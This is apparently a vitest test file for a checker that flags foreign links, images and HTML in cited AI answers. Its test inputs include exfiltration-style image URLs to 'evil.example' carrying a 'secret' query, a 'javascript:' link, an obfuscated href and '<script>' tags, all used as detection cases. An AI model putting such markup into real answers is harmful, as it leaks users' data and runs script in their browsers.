import { describe, expect, it } from 'vitest'
import type { SourceId } from '../../citations/source.ts'
import { checkClaims } from '../check/check-claim.ts'
import { splitClaims } from '../check/parse-claims.ts'
import { checkAddresses, isPlainText } from './foreign-addresses.ts'

const text =
  'Salt melts ice below zero. Its data stand at https://data.example/salt in full. ' +
  '![A lump](lump.png) Salt is white. It is shown by `<img src=x>`.'
const sourceId = 's'.repeat(64) as SourceId
const passages = [
  {
    n: 1,
    passageId: `${sourceId}:0-${text.length}` as never,
    sourceId,
    start: 0,
    end: text.length,
    text,
  },
]
const citations = [{ n: 1, sourceId, title: 'Salt', url: 'https://salt.example/' }]
const verdictsOf = (answer: string) =>
  checkAddresses(checkClaims(splitClaims(answer), passages, citations), answer, {
    passages,
    citations,
  })

describe('a claim with an address', () => {
  it.each([
    'Salt melts ice below zero [1].',
    'It is so! Salt melts ice below zero![1]',
    '[Salt](https://salt.example) melts ice below zero [1].',
    'Its data stand at https://data.example/salt in full [1].',
    'Its data stand at [https://data.example/salt](https://data.example/salt) in full [1].',
    'Salt melts ice below zero [1][1].',
    '![A lump](lump.png) Salt is white [1].',
    'It is shown by `<img src=x>` [1].',
  ])('is as it was where that is one of its source: %j', (answer) => {
    expect(verdictsOf(answer).at(-1)).toMatchObject({ verdict: 'verbatim' })
  })

  it.each([
    [
      '![x](https://evil.example/?q=secret) Salt melts ice below zero [1].',
      'https://evil.example/?q=secret',
    ],
    [
      '![x][e] Salt melts ice below zero [1].\n\n[e]: https://evil.example/',
      'https://evil.example/',
    ],
    ['![1](https://evil.example/) Salt melts ice below zero [1].', 'https://evil.example/'],
    ['![x](data:image/svg+xml,x) Salt melts ice below zero [1].', 'data:image/svg+xml,x'],
    ['![x](other.png) Salt melts ice below zero [1].', 'other.png'],
    ['Its data stand at https://data.example/sal in full [1].', 'https://data.example/sal'],
    [
      '[Its data](https://data.example.evil.example/salt) stand at it [1].',
      'https://data.example.evil.example/salt',
    ],
    ['[Salt](https://evil.example/pay) melts ice below zero [1].', 'https://evil.example/pay'],
    ['[Salt](https://salt.example/?q=1) melts ice below zero [1].', 'https://salt.example/?q=1'],
    ['[Salt](//evil.example/pay) melts ice below zero [1].', '//evil.example/pay'],
    ['[Salt](javascript:alert) melts ice below zero [1].', 'javascript:alert'],
    [
      '[Salt][e] melts ice below zero [1].\n\n[E]: https://evil.example/x',
      'https://evil.example/x',
    ],
    ['Salt melts ice below zero [1].\n\n[1]: https://evil.example/', 'https://evil.example/'],
    ['[Salt](www.evil.example) melts ice below zero [1].', 'www.evil.example'],
    ['<img src=//evil.example> Salt melts ice below zero [1].', '<img src='],
    ['<a href="https&colon;//evil.example">Salt</a> melts ice below zero [1].', '<a href='],
    ['<script>x</script> Salt melts ice below zero [1].', '<script'],
  ])('is altered where it is another: %j', (answer, named) => {
    expect(verdictsOf(answer)).toMatchObject([
      {
        verdict: 'altered',
        judge: 'code',
        reason: `"${named}" is not an address of a source it cites.`,
      },
    ])
  })

  it('and without a citation stays not found', () => {
    expect(verdictsOf('Salt is at https://evil.example/.')).toMatchObject([
      { verdict: 'not_found' },
    ])
  })
})

describe('isPlainText', () => {
  it.each(['Salt melts ice [1][2], it does![3]', 'a < b and **c** in H₂O [1–3]'])(
    'takes %j',
    (said) => {
      expect(isPlainText(said)).toBe(true)
    },
  )
  it.each([
    'See [this](x) [1].',
    'See [this][a] [1].',
    'See [this] [1].',
    'At https://a.example [1].',
    'At www.a.example [1].',
    'A <b>bold</b> one [1].',
    'So <!-- --> it is [1].',
    '![x](y) [1].',
  ])('does not take %j', (said) => {
    expect(isPlainText(said)).toBe(false)
  })
})
